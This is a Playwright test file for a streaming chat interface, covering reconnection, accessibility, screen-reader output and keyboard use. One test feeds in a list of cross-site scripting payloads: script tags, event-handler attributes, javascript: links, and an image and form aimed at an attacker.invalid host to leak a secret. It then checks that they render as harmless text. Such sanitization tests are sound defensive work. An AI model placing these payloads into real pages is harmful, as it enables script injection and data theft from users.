/** Lost connections, hostile answers, and what a screen reader and a keyboard find. */

import { expectAccessible } from './support/accessible';
import { dropConnections, SENT_WHILE_CLOSING, watchConnections } from './support/connections';
import { Chat, expect, expectOnly, test } from './support/fixtures';

const TOKENS = ['Rivers ', 'meander ', 'because ', 'banks ', 'erode ', 'unevenly.'];
const WHOLE = TOKENS.join('');

test('a lost connection comes back, and nothing is missing', async ({
  page,
  site,
  stack,
  model,
  complaints,
}) => {
  model.answer('drop me', { tokens: TOKENS, holdAfter: 3 });
  await watchConnections(page);
  const chat = new Chat(page, site, stack);
  await chat.signIn();
  await chat.ask('drop me');
  await expect(chat.text).toHaveText('Rivers meander because');
  await dropConnections(page);
  model.release('drop me');
  await chat.over();
  await expect(chat.text).toHaveText(WHOLE);
  expectOnly(complaints, SENT_WHILE_CLOSING);
});

test('offline and back: it says so, and goes on where it was', async ({
  page,
  site,
  stack,
  model,
  context,
  complaints,
}) => {
  model.answer('offline', { tokens: TOKENS, holdAfter: 3 });
  await watchConnections(page);
  const chat = new Chat(page, site, stack);
  await chat.signIn();
  await chat.ask('offline');
  await expect(chat.text).toHaveText('Rivers meander because');
  await context.setOffline(true);
  await dropConnections(page);
  await expect(chat.answer).toContainText('Reconnecting');
  // The answer ends while nobody is there.
  model.release('offline');
  await expect.poll(() => model.finished('offline')).toBe(1);
  await expect(chat.text).toHaveText('Rivers meander because');
  await context.setOffline(false);
  await chat.over();
  await expect(chat.text).toHaveText(WHOLE);
  // The browser itself reports requests that failed.
  const expected = new RegExp(`ERR_INTERNET_DISCONNECTED|${SENT_WHILE_CLOSING.source}`);
  expectOnly(complaints, expected);
});

test('a prompt that was refused says so after a reload, too', async ({ chat }) => {
  const failure = chat.page.getByRole('alert');
  await chat.ask('x'.repeat(100_001));
  await expect(failure).toContainText('INVALID_PROMPT');
  await chat.page.reload();
  await expect(failure).toContainText(/never started|INVALID_PROMPT/);
  await chat.over();
  await expect(chat.question).toBeEditable();
});

const HOSTILE = [
  '<script>window.hacked = 1</script>\n\n',
  '<img src=x onerror="window.hacked = 2">\n\n',
  'Inline <svg onload="window.hacked = 3"></svg> and <b>bold</b>.\n\n',
  '[click](javascript:window.hacked=4) [data](data:text/html,<script>hacked=5</script>)\n\n',
  '![alt text](https://attacker.invalid/pixel.png?secret)\n\n',
  '<iframe srcdoc="<script>parent.hacked=6</script>"></iframe>\n\n',
  '<style>body { display: none }</style>\n\n',
  '[a](https://example.com/" onmouseover="window.hacked=7)\n\n',
  '`<script>window.hacked = 8</script>` &lt;script&gt;window.hacked = 9&lt;/script&gt;\n\n',
  '| <img src=x onerror=hacked=10> | b |\n|---|---|\n| <details open ontoggle=hacked=11> | d |\n\n',
  '<a href="javascript:hacked=12">x</a> <form action="https://attacker.invalid"><button>y</button></form>\n\n',
  'The end.',
];

test('what looks like HTML in an answer is text, and no script, image or address of it does anything', async ({
  chat,
  model,
}) => {
  const foreign: string[] = [];
  chat.page.on('request', (request) => {
    if (new URL(request.url()).hostname !== 'localhost') foreign.push(request.url());
  });
  model.answer('hostile', { tokens: HOSTILE.flatMap((text) => text.match(/.{1,7}/gs) ?? []) });
  await chat.ask('hostile');
  await chat.over();
  await expect(chat.text).toContainText('The end.');
  await expect(chat.text).toContainText('<script>window.hacked = 1</script>');
  await expect(chat.text).toContainText('<img src=x onerror="window.hacked = 2">');
  const made = chat.text.locator(
    'script, img, svg:not([focusable]), iframe, style, form, details, b',
  );
  await expect(made).toHaveCount(0);
  for (const link of await chat.text.getByRole('link').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https:/);
    expect(await link.getAttribute('onmouseover')).toBeNull();
  }
  expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(foreign).toEqual([]);
});

test('accessibility: no serious finding, in either theme, at any stage', async ({
  chat,
  model,
  page,
}) => {
  const text =
    '# Title\n\nSome `code` and a [link](https://example.com).\n\n```js\nlet a;\n```\n\n| a |\n|---|\n| b |\n\n- [x] done\n\nend';
  model.answer('accessible', { tokens: text.split(/(?<= )/), holdAfter: 4 });
  await expectAccessible(page);
  await chat.ask('accessible');
  await expect(chat.text).toContainText('Title');
  await expectAccessible(page);
  model.release('accessible');
  await chat.over();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Dark colours' }).click();
  await page.mouse.move(600, 300);
  await expectAccessible(page);
  model.answer('inaccessible', { tokens: [], refuse: 400 });
  await chat.ask('inaccessible');
  await expect(page.getByRole('alert')).toBeVisible();
  await expectAccessible(page);
  await page.setViewportSize({ width: 390, height: 780 });
  await page.getByRole('button', { name: 'Open the menu' }).click();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Close the menu' }).click();
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  await expectAccessible(page);
});

test('a screen reader is told the state and whole blocks, each once', async ({ chat, model }) => {
  const text = 'First **paragraph**.\n\nSecond paragraph.\n\nThird.';
  model.answer('read aloud', { tokens: text.split(/(?<= )/), holdAfter: 2 });
  const log = chat.page.getByRole('log');
  await log.evaluate((element) => {
    const said: string[] = [];
    Object.assign(window, { said });
    new MutationObserver((changes) => {
      for (const { addedNodes } of changes) {
        for (const node of addedNodes) said.push(node.textContent ?? '');
      }
    }).observe(element, { childList: true, subtree: true, characterData: true });
  });
  await chat.ask('read aloud');
  await expect(
    chat.page.getByRole('status').filter({ hasText: 'The answer is coming.' }),
  ).toHaveCount(1);
  model.release('read aloud');
  await chat.over();
  await expect(
    chat.page.getByRole('status').filter({ hasText: 'The answer is complete.' }),
  ).toHaveCount(1);
  const said = await chat.page.evaluate(() => (window as unknown as { said: string[] }).said);
  expect(said).toEqual(['First paragraph.', 'Second paragraph.', 'Third.']);
});

test('everything works by keyboard alone', async ({ page, site, stack, model }) => {
  model.answer('by keyboard', { tokens: TOKENS, holdAfter: 2 });
  const user = stack.users[0];
  await page.goto(site);
  await page.getByLabel('Username').focus();
  await page.keyboard.type(user?.username ?? '');
  await page.keyboard.press('Tab');
  await page.keyboard.type(user?.password ?? '');
  await page.keyboard.press('Enter');
  const chat = new Chat(page, site, stack);
  await expect(chat.question).toBeFocused();
  await page.keyboard.type('by keyboard');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('on two lines');
  await page.keyboard.press('Enter');
  await expect(chat.text).toHaveText('Rivers meander');
  await page.keyboard.press('Escape');
  await chat.over();
  await expect(chat.answer).toContainText('stopped');
  await expect(page.getByRole('region', { name: 'Question' })).toContainText('on two lines');
});

test('before its first token an answer says that it is being thought about', async ({
  chat,
  model,
}) => {
  model.answer('slow to begin', { tokens: TOKENS, holdAfter: 0 });
  await chat.ask('slow to begin');
  await expect(chat.answer).toContainText('Thinking');
  model.release('slow to begin');
  await chat.over();
  await expect(chat.text).toHaveText(WHOLE);
});
